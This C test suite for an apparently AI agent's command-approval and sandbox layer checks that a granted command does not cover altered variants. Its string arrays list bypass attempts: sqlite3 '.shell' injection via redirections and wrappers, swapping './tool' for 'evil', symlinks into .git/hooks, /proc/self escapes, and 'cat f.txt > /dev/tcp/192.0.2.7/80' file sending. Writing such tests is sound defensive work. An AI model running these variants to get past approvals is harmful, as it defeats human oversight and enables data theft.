/* What an approval covers: grants, and access beyond the sandbox. */
#include "lib/permission_hand.h"

TEST(a_grant_reaches_as_far_as_it_says)
{
	static const char args[] = "{\"command\":\"make all > build/log\"}";
	HAND;

	CHECK(judge(&h, args) == APPROVAL_DECISION_ASK);
	CHECK(grant(&h, args, GRANT_SCOPE_TURN, 0));
	CHECK_INT(h.state->s->grants.count, 2); /* the command, and the file that the shell opens */
	CHECK(judge(&h, args) == APPROVAL_DECISION_ALLOW);
	CHECK(judge(&h, "{\"command\":\"make all > build/other\"}") == APPROVAL_DECISION_ASK);
	CHECK(judge(&h, "{\"command\":\"make install > build/log\"}") == APPROVAL_DECISION_ASK);
	for (uint32_t i = 0; i < h.state->s->grants.count; i++)
		h.state->s->grants.items[i]->turn_id = STR("turn_2");
	CHECK(judge(&h, args) == APPROVAL_DECISION_ASK);
}

TEST(a_grant_ends_when_it_says)
{
	HAND;

	CHECK(grant(&h, "{\"command\":\"make\"}", GRANT_SCOPE_SESSION, 2000));
	CHECK(judge(&h, "{\"command\":\"make\"}") == APPROVAL_DECISION_ALLOW);
	CHECK_INT(h.d.expires_at, 2000);
	h.now = 2000;
	CHECK(judge(&h, "{\"command\":\"make\"}") == APPROVAL_DECISION_ASK);
}

TEST(what_is_not_known_word_by_word_cannot_be_granted)
{
	HAND;

	CHECK(!grant(&h, "{\"command\":\"make $target\"}", GRANT_SCOPE_SESSION, 0));
	CHECK(!grant(&h, "{\"command\":\"$x\"}", GRANT_SCOPE_SESSION, 0));
	CHECK(!grant(&h, "{\"command\":\"make; $x\"}", GRANT_SCOPE_SESSION, 0));
	CHECK_INT(h.state->s->grants.count, 0);
	use_rules(&h, "[{\"effect\":\"ask\",\"command\":[\"make\"],\"always\":true}]");
	CHECK(!grant(&h, "{\"command\":\"make\"}", GRANT_SCOPE_SESSION, 0));
}

/* The words are those that were approved; what the program does is decided elsewhere. */
static const char *const steered[] = {
	"echo .shell | sqlite3 f.db",
	"sqlite3 f.db < x.sql",
	"sqlite3 f.db 0< x.sql",
	"sqlite3 f.db <> x.sql",
	"sqlite3 f.db <<< .shell",
	"sqlite3 f.db <<E\\n.shell\\nE",
	"sqlite3 f.db 3< x.sql <&3",
	"cat x.sql | (true; sqlite3 f.db)",
	"{ sqlite3 f.db; } < x.sql",
	"while sqlite3 f.db; do true; done < x.sql",
	"if true; then sqlite3 f.db; fi < x.sql",
	"(sqlite3 f.db) < x.sql",
	"echo x | { true && sqlite3 f.db; }",
	"echo x | nice sqlite3 f.db",
	"echo x | env sqlite3 f.db",
	"echo x | sh -c 'sqlite3 f.db'",
	"f() { sqlite3 f.db; }; echo x | f",
	"echo x > >(sqlite3 f.db)",
	"exec < x.sql; sqlite3 f.db",
	"exec 0<x.sql && sqlite3 f.db",
	"command exec < x.sql; sqlite3 f.db",
	"coproc sqlite3 f.db",
	"HISTFILE=x sqlite3 f.db",
	"x=1 nice sqlite3 f.db",
	"x=1 sh -c 'sqlite3 f.db'",
	"env x=1 sqlite3 f.db",
	"env x=1 sh -c 'sqlite3 f.db'",
	"x=1; sqlite3 f.db",
	"export x=1; sqlite3 f.db",
	"export x=1 && nice sqlite3 f.db",
	"declare -x x=1; sqlite3 f.db",
	"readonly x=1; sqlite3 f.db",
	"unset x; sqlite3 f.db",
	"read x; sqlite3 f.db",
	"printf -v x 1; sqlite3 f.db",
	"for x in 1; do sqlite3 f.db; done",
	"eval x=1; sqlite3 f.db",
	"trap 'sqlite3 f.db' EXIT",
	"exec -a x sqlite3 f.db",
	"exec -c sqlite3 f.db",
	"exec -l sqlite3 f.db",
	"env -i sqlite3 f.db",
	"env - sqlite3 f.db",
	"env -u X sqlite3 f.db",
	"env --unset=X sqlite3 f.db",
	"env --argv0=x sqlite3 f.db",
	"env --ignore-signal=PIPE sqlite3 f.db",
	"env -i sh -c 'sqlite3 f.db'",
	"command -p sqlite3 f.db",
	"sudo sqlite3 f.db",
	"sudo -u u sqlite3 f.db",
	"doas sqlite3 f.db",
	"unshare -r sqlite3 f.db",
	"su -c 'sqlite3 f.db'",
	"busybox sqlite3 f.db",
	"fakeroot sqlite3 f.db",
	"faketime now sqlite3 f.db",
};

TEST(a_grant_covers_no_other_input_and_no_variables)
{
	HAND;

	for (size_t i = 0; i < COUNT_OF(steered); i++) {
		char args[200];

		snprintf(args, sizeof args, "{\"command\":\"%s\"}", steered[i]);
		CHECK(!grant(&h, args, GRANT_SCOPE_SESSION, 0) || !printf("# %s\n", steered[i]));
	}
	CHECK(grant(&h, "{\"command\":\"sqlite3 f.db\"}", GRANT_SCOPE_SESSION, 0));
	for (size_t i = 0; i < COUNT_OF(steered); i++) {
		char args[200];

		snprintf(args, sizeof args, "{\"command\":\"%s\"}", steered[i]);
		CHECK(judge(&h, args) == APPROVAL_DECISION_ASK || !printf("# %s\n", steered[i]));
	}
}

TEST(a_grant_covers_what_a_line_adds_without_changing_it)
{
	static const char *const same[] = {
		"sqlite3 f.db",
		"sqlite3 f.db | head -5",
		"sqlite3 f.db < /dev/null",
		"sqlite3 f.db && ls",
		"ls | sort; sqlite3 f.db",
		"LC_ALL=C sqlite3 f.db",
		"sqlite3 f.db 2>&1 | tail -3",
		"nice sqlite3 f.db",
		"nohup sqlite3 f.db",
		"setsid -w sqlite3 f.db",
		"env sqlite3 f.db",
		"env LC_ALL=C sqlite3 f.db",
		"exec sqlite3 f.db",
		"command sqlite3 f.db",
		"time sqlite3 f.db",
	};
	HAND;

	CHECK(grant(&h, "{\"command\":\"sqlite3 f.db\"}", GRANT_SCOPE_SESSION, 0));
	for (size_t i = 0; i < COUNT_OF(same); i++) {
		char args[200];

		snprintf(args, sizeof args, "{\"command\":\"%s\"}", same[i]);
		CHECK(judge(&h, args) == APPROVAL_DECISION_ALLOW || !printf("# %s\n", same[i]));
	}
}

TEST(a_grant_answers_an_ask_rule_on_paths_too)
{
	HAND;

	use_tool(&h, "write", TOOL_POLICY_ALLOWED, "[\"write\",\"filesystem\"]");
	use_rules(&h, "[{\"effect\":\"ask\",\"path\":\"deploy/**\"}]");
	CHECK(judge(&h, "{\"path\":\"deploy/x.yml\"}") == APPROVAL_DECISION_ASK);
	CHECK(grant(&h, "{\"path\":\"deploy/x.yml\"}", GRANT_SCOPE_SESSION, 0));
	CHECK(judge(&h, "{\"path\":\"deploy/../deploy/x.yml\"}") == APPROVAL_DECISION_ALLOW);
	CHECK(judge(&h, "{\"path\":\"deploy/y.yml\"}") == APPROVAL_DECISION_ASK);
	/* When the file has become a directory. */
	CHECK(judge(&h, "{\"path\":\"deploy/x.yml/z\"}") == APPROVAL_DECISION_ASK);
}

/* What a grant for ./tool does not cover, although a line runs these words. */
TEST(a_grant_for_a_script_covers_it_in_its_directory_alone)
{
	static const char *const elsewhere[] = {
		"cd -P link/.. && ./tool",
		"cd -P sub/.. && ./tool",
		"cd -LP link/.. && ./tool",
		"cd -e link/.. && ./tool",
		"cd -@ link/.. && ./tool",
		"cd link/.. && ./tool",
		"cd link && cd .. && ./tool",
		"set -P; cd link/.. && ./tool",
		"set -o physical; cd link/.. && ./tool",
		"command cd -P link/.. && ./tool",
		"pushd link/.. && ./tool",
		"cd sub; cd - && ./tool",
		"env -C link/.. ./tool",
		"env --chdir=link/.. ./tool",
		"cd link && ./tool",
	};
	HAND;

	use_files(&h);
	link_from = "/ws/link";
	link_to = "/ws/other/deep";
	CHECK(grant_line(&h, "./tool"));
	CHECK(grant_line(&h, "cd other && ./tool"));
	CHECK(judge_line(&h, "./tool") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cd sub/.. && ./tool") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cd sub && cd .. && ./tool") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cd -L sub/.. && ./tool") == APPROVAL_DECISION_ALLOW);
	for (size_t i = 0; i < COUNT_OF(elsewhere); i++)
		CHECK(judge_line(&h, elsewhere[i]) == APPROVAL_DECISION_ASK ||
		      !printf("# %s\n", elsewhere[i]));
}

TEST(a_grant_for_a_directory_holds_while_its_links_lead_there)
{
	HAND;

	use_files(&h);
	link_from = "/ws/link";
	link_to = "/ws/a";
	CHECK(grant_line(&h, "cd link && make"));
	CHECK(judge_line(&h, "cd link && make") == APPROVAL_DECISION_ALLOW);
	link_to = "/ws/b";
	CHECK(judge_line(&h, "cd link && make") == APPROVAL_DECISION_ASK);
}

/* A shell that is started in a link has the real name of its directory. */
TEST(a_command_starts_where_the_links_of_its_directory_lead)
{
	HAND;

	use_files(&h);
	link_from = "/ws/link";
	link_to = "/home/u/x";
	CHECK(judge(&h, "{\"command\":\"cat ../notes\",\"cwd\":\"link\"}") ==
	      APPROVAL_DECISION_ASK);
	CHECK(judge(&h, "{\"command\":\"cd .. && cat notes\",\"cwd\":\"link\"}") ==
	      APPROVAL_DECISION_ASK);
	CHECK(judge(&h, "{\"command\":\"cd .. && cat notes\",\"cwd\":\"sub\"}") ==
	      APPROVAL_DECISION_ALLOW);
}

TEST(text_for_a_shell_is_approved_once)
{
	static const char args[] = "{\"processId\":\"p\",\"text\":\"ls\"}";
	struct rec_grant_match whole = { .tool = STR("write_process") };
	struct st_grant *old;
	HAND;

	use_tool(&h, "write_process", TOOL_POLICY_ASK, "[\"write\",\"shell\"]");
	CHECK(judge(&h, args) == APPROVAL_DECISION_ASK);
	CHECK(!grant(&h, args, GRANT_SCOPE_SESSION, 0));
	/* A grant of an earlier version. */
	old = rec_list_add(h.state->mem, &h.state->s->grants, &st_grant_desc);
	old->grant_id = STR("grant_1");
	old->scope = GRANT_SCOPE_SESSION;
	old->match = rec_text(h.state->mem, &rec_grant_match_desc, &whole);
	CHECK(judge(&h, args) == APPROVAL_DECISION_ASK);
	/* A tool of a server keeps its grant, which says that it covers any arguments. */
	h.tool.owner = STR("mcp:docs");
	CHECK(grant(&h, args, GRANT_SCOPE_SESSION, 0));
	CHECK(judge(&h, args) == APPROVAL_DECISION_ALLOW);
}

TEST(a_grant_for_a_script_does_not_cover_one_that_the_line_changes)
{
	static const char *const changing[] = {
		"cp evil tool; ./tool",
		"cp evil tool && ./tool",
		"mv evil tool; ./tool",
		"ln -sf evil tool; ./tool",
		"rm tool; ./tool",
		"mv bin2 bin; cd bin && ./tool",
		"echo x > tool; ./tool",
		"./tool > tool",
		"cp evil tool & ./tool",
		"./tool & cp evil tool",
		"while ./tool; do cp evil tool; done",
		"cp evil tool | ./tool",
		"tee tool; ./tool",
		"cp * $x; ./tool",
		"make; ./tool",
		"python3 x.py; ./tool",
		"tar xf a.tar; ./tool",
		"time -o tool ./tool",
		"sh -c 'cp evil tool'; ./tool",
		"cp evil tool; sh -c ./tool",
	};
	HAND;

	use_files(&h);
	CHECK(grant_line(&h, "./tool"));
	CHECK(grant_line(&h, "cd bin && ./tool"));
	use_rules(&h, "[{\"effect\":\"ask\",\"command\":[\"./tool\"]}]");
	h.settings.mode = PERMISSION_MODE_ON_REQUEST;
	h.tool.is_sandboxed = true;
	CHECK(judge_line(&h, "./tool") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cp a b; ./tool") != APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "chmod +x tool && ./tool") != APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "mkdir -p bin && ./tool") != APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "./tool && cp a tool") != APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "./tool | head") != APPROVAL_DECISION_ASK);
	for (size_t i = 0; i < COUNT_OF(changing); i++)
		CHECK(judge_line(&h, changing[i]) == APPROVAL_DECISION_ASK ||
		      !printf("# %s\n", changing[i]));
}

TEST(a_grant_for_a_script_under_a_wrapper_is_bound_to_its_content)
{
	HAND;

	use_files(&h);
	CHECK(grant_line(&h, "script -q -c ./tool") || grant_line(&h, "timeout 5 ./tool"));
	CHECK(judge_line(&h, "timeout 5 ./tool") == APPROVAL_DECISION_ALLOW);
	content = "other";
	CHECK(judge_line(&h, "timeout 5 ./tool") == APPROVAL_DECISION_ASK);
}

/* out was a directory when the grant was given. */
TEST(a_granted_word_covers_what_it_led_to)
{
	HAND;

	use_files(&h);
	CHECK(grant_line(&h, "cp pay out/hook"));
	CHECK(judge_line(&h, "cp pay out/hook") == APPROVAL_DECISION_ALLOW);
	link_from = "/ws/out";
	link_to = "/ws/.git/hooks";
	CHECK(judge_line(&h, "cp pay out/hook") == APPROVAL_DECISION_ASK);
	link_to = "/srv/other";
	CHECK(judge_line(&h, "cp pay out/hook") == APPROVAL_DECISION_ASK);
	link_to = "/ws/src";
	CHECK(judge_line(&h, "cp pay out/hook") == APPROVAL_DECISION_ASK);
	/* A grant that was given while it is a link says where that leads. */
	CHECK(grant_line(&h, "cp pay out/hook"));
	CHECK(judge_line(&h, "cp pay out/hook") == APPROVAL_DECISION_ALLOW);
	link_to = "/ws/src2";
	CHECK(judge_line(&h, "cp pay out/hook") == APPROVAL_DECISION_ASK);
}

TEST(a_rule_on_words_does_not_cover_a_link_to_a_protected_place)
{
	HAND;

	use_files(&h);
	use_rules(&h, "[{\"effect\":\"allow\",\"command\":[\"cp\",\"pay\",\"out/hook\"]},"
	              "{\"effect\":\"allow\",\"command\":[\"cp\",\"pay\",\".git/hooks/x\"]}]");
	CHECK(judge_line(&h, "cp pay out/hook") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cp pay .git/hooks/x") == APPROVAL_DECISION_ALLOW);
	link_from = "/ws/out";
	link_to = "/ws/.git/hooks";
	CHECK(judge_line(&h, "cp pay out/hook") == APPROVAL_DECISION_ASK);
}

TEST(a_protected_path_is_granted_by_its_own_match)
{
	HAND;

	use_files(&h);
	CHECK(grant_line(&h, "cp pay .vscode/tasks.json"));
	/* the command, the file, and the file in it, should it be a directory */
	CHECK_INT(h.state->s->grants.count, 3);
	CHECK(judge_line(&h, "cp pay .vscode/tasks.json") == APPROVAL_DECISION_ALLOW);
	link_from = "/ws/.vscode";
	link_to = "/ws/.git/hooks";
	CHECK(judge_line(&h, "cp pay .vscode/tasks.json") == APPROVAL_DECISION_ASK);
}

TEST(a_file_tool_has_a_grant_for_where_a_link_leads)
{
	static const char args[] = "{\"path\":\"out/x\"}";
	HAND;

	use_files(&h);
	use_tool(&h, "write", TOOL_POLICY_ASK, "[\"write\",\"filesystem\"]");
	link_from = "/ws/out";
	link_to = "/srv/a";
	CHECK(grant(&h, args, GRANT_SCOPE_SESSION, 0));
	CHECK(judge(&h, args) == APPROVAL_DECISION_ALLOW);
	link_to = "/srv/b";
	CHECK(judge(&h, args) == APPROVAL_DECISION_ASK);
}

TEST(the_host_of_a_redirection_is_not_a_matter_of_the_words)
{
	HAND;

	use_rules(&h, "[{\"effect\":\"allow\",\"command\":[\"cat\",\"f.txt\"]}]");
	CHECK(judge_line(&h, "cat f.txt") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "cat f.txt > /dev/udp/192.0.2.7/80") == APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/$h/80") == APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/0x7f.1/80") == APPROVAL_DECISION_ASK);
	use_rules(&h, "[{\"effect\":\"allow\",\"command\":[\"cat\",\"f.txt\"]},"
	              "{\"effect\":\"allow\",\"host\":\"192.0.2.7\"}]");
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.8/80") == APPROVAL_DECISION_ASK);
	h.settings.rules = NULL;
	CHECK(grant_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80"));
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.8/80") == APPROVAL_DECISION_ASK);
}

TEST(a_grant_for_a_connection_covers_its_protocol_and_port)
{
	HAND;

	CHECK(grant_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80"));
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/22") == APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "cat f.txt > /dev/udp/192.0.2.7/80") == APPROVAL_DECISION_ASK);
	/* a port that is not known, and what is no port */
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/$p") == APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7") == APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7:80/22") == APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "cat f.txt > '/dev/tcp/192.0.2.7/8*'") == APPROVAL_DECISION_ASK);
}

TEST(a_rule_may_name_protocol_and_port)
{
	HAND;

	use_rules(&h, "[{\"effect\":\"allow\",\"command\":[\"cat\",\"f.txt\"]},"
	              "{\"effect\":\"allow\",\"host\":\"tcp://192.0.2.7:80\"}]");
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/22") == APPROVAL_DECISION_ASK);
	CHECK(judge_line(&h, "cat f.txt > /dev/udp/192.0.2.7/80") == APPROVAL_DECISION_ASK);
	use_rules(&h, "[{\"effect\":\"allow\",\"command\":[\"cat\",\"f.txt\"]},"
	              "{\"effect\":\"allow\",\"host\":\"192.0.2.*\"},"
	              "{\"effect\":\"deny\",\"host\":\"udp://*\"},"
	              "{\"effect\":\"deny\",\"host\":\"tcp://*:22\"}]");
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/22") == APPROVAL_DECISION_DENY);
	CHECK(judge_line(&h, "cat f.txt > /dev/udp/192.0.2.7/80") == APPROVAL_DECISION_DENY);
}

TEST(no_other_spelling_of_a_port_or_host_passes_a_deny_rule)
{
	static const char *const denied[] = {
		"192.0.2.7/22",    "192.0.2.7/022",    "192.0.2.7/0000000022",
		"192.0.2.7/65558", "192.0.2.7/131094", "192.0.2.7/ssh",
		"192.0.2.7/SSH",   "192.0.2.7./22",    "192.0.2.7/4294967318",
	};
	char line[600], host[254];
	HAND;

	use_rules(&h, "[{\"effect\":\"allow\",\"command\":[\"cat\",\"f.txt\"]},"
	              "{\"effect\":\"allow\",\"host\":\"*\"},"
	              "{\"effect\":\"deny\",\"host\":\"tcp://bad.example:80\"},"
	              "{\"effect\":\"deny\",\"host\":\"tcp://*:22\"}]");
	for (size_t i = 0; i < COUNT_OF(denied); i++) {
		snprintf(line, sizeof line, "cat f.txt > /dev/tcp/%s", denied[i]);
		CHECK(judge_line(&h, line) != APPROVAL_DECISION_ALLOW);
	}
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/022") == APPROVAL_DECISION_DENY);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/bad.example./80") == APPROVAL_DECISION_DENY);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/BAD.example../080") == APPROVAL_DECISION_DENY);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7./080") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/65535") == APPROVAL_DECISION_ALLOW);
	/* as long as a name of a host can be */
	memset(host, 'a', sizeof host - 1);
	for (size_t i = 60; i < sizeof host - 1; i += 61)
		host[i] = '.';
	host[sizeof host - 1] = '\0';
	snprintf(line, sizeof line, "cat f.txt > /dev/tcp/%s/22", host);
	CHECK(judge_line(&h, line) != APPROVAL_DECISION_ALLOW);
}

TEST(the_files_of_a_process_are_not_those_of_the_runtime)
{
	static const char *const unknown[] = {
		"cat /proc/self/root/etc/hostname",
		"cat /proc/7/cwd/x",
		"cat /proc/thread-self/fd/3",
		"cat /proc/self/task/7/cwd/x",
		"cat /proc/self/map_files/1-2",
		"cat /dev/fd/3/x",
		"cat /dev/fd/../cwd/x",
		"cat /dev/stdin/x",
		"cat ../proc/self/root/x",
		"cd /proc/self && cat cwd/x",

		"cat /proc/*/root/x",
	};
	HAND;

	use_files(&h);
	h.settings.mode = PERMISSION_MODE_ON_REQUEST;
	h.tool.is_sandboxed = true;
	use_rules(&h, "[{\"effect\":\"allow\",\"path\":\"/proc/**\"}]");
	for (size_t i = 0; i < COUNT_OF(unknown); i++) {
		CHECK(judge_line(&h, unknown[i]) == APPROVAL_DECISION_ASK ||
		      !printf("# %s\n", unknown[i]));
		CHECK(!grant_line(&h, unknown[i]) || !printf("# %s\n", unknown[i]));
	}
	h.settings.rules = NULL;
	CHECK(judge_line(&h, "cat /dev/stdin; echo x > /dev/fd/2") == APPROVAL_DECISION_ALLOW);
	h.settings.mode = PERMISSION_MODE_DEFAULT;
	CHECK(judge_line(&h, "cd /proc/self/cwd && cat x") == APPROVAL_DECISION_ASK);
	h.settings.mode = PERMISSION_MODE_ON_REQUEST;
	/* The directory of the command, whatever that of the runtime is. */
	CHECK(judge_line(&h, "cat /proc/self/cwd/notes") == APPROVAL_DECISION_ALLOW);
	CHECK(judge_line(&h, "echo x > /proc/self/cwd/.envrc") == APPROVAL_DECISION_ASK);
	CHECK_STR(h.d.impact->paths.items[0], "/ws/.envrc");
	CHECK(judge_line(&h, "cd sub && echo x > /proc/self/cwd/../f") != APPROVAL_DECISION_ASK);
	CHECK_STR(h.d.impact->paths.items[0], "/ws/f");
}

/* ---- beyond the sandbox ---- */

static const char *write_roots(struct hand *h, const char *line, struct str *ret_refused)
{
	struct rec_sandbox_profile sandbox = { .mode = SANDBOX_MODE_WORKSPACE_WRITE,
		                               .cwd = STR("/ws") };
	struct rec_sandbox_override o;
	struct permission_ask a;
	char args[400];

	snprintf(args, sizeof args, "{\"command\":\"%s\"}", line);
	a = ask(h, args);
	rec_list_str_add(h->mem, &sandbox.write_roots, STR("/ws"));
	rec_list_str_add(h->mem, &sandbox.read_roots, STR("/ws"));
	permission_needs(&a, &sandbox, false, &o);
	for (uint32_t i = 0; i < o.write_roots.count; i++)
		rec_list_str_add(h->mem, &sandbox.write_roots, o.write_roots.items[i]);
	*ret_refused = permission_refused_write(&a, &sandbox);
	return o.write_roots.count ? arena_keep(h->mem, o.write_roots.items[0]).ptr : "";
}

/* Settings in the directory may name programs, and they may change after the question. */
TEST(a_program_that_reads_settings_of_the_directory_gets_no_directory_to_write)
{
	static const char *const lines[] = {
		"git status > /srv/out/x",
		"cp -r tmpl ns && cd ns && git status > /srv/out/x",
		"git --version > /srv/out/x",
		"npm ls > /srv/out/x",
		"cargo --version > /srv/out/x",
		"git log | tee /srv/out/x",
		"make > /srv/out/x",
		"sed -i'repo/*' s/a/b/ /srv/out/b",
		"sed --in-place=sub/x s/a/b/ /srv/out/b",
	};
	struct str refused;
	HAND;

	use_files(&h);
	h.tool.is_sandboxed = true;
	CHECK_STR(str_from(write_roots(&h, "cp a /srv/out/x", &refused)), "/srv/out");
	CHECK(!str_is(refused));
	CHECK_STR(str_from(write_roots(&h, "sed -i.bak s/a/b/ /srv/out/x", &refused)), "/srv/out");
	for (size_t i = 0; i < COUNT_OF(lines); i++) {
		CHECK_STR(str_from(write_roots(&h, lines[i], &refused)), "");
		CHECK_HAS(refused, "/srv/out/");
	}
}

TEST(the_question_says_what_of_a_tree_the_sandbox_keeps)
{
	struct str refused;
	HAND;

	use_files(&h);
	h.tool.is_sandboxed = true;
	CHECK_STR(str_from(write_roots(&h, "mv /srv/out/repo/.git /srv/out/r2", &refused)),
	          "/srv/out");
	CHECK_STR(refused, "/srv/out/repo/.git");
	there = "/srv/out/repo/.git/HEAD";
	write_roots(&h, "mv /srv/out/repo /srv/out/r2", &refused);
	CHECK_STR(refused, "/srv/out/repo/.git");
	there = "/ws/sub/.git";
	write_roots(&h, "rm -rf sub", &refused);
	CHECK_STR(refused, "/ws/sub/.git");
	there = "/ws/none";
	write_roots(&h, "mv /srv/out/a /srv/out/b", &refused);
	CHECK(!str_is(refused));
	write_roots(&h, "rm -rf /srv/out/a", &refused);
	CHECK_STR(refused, "/srv/out/a");
}

TEST_MAIN()
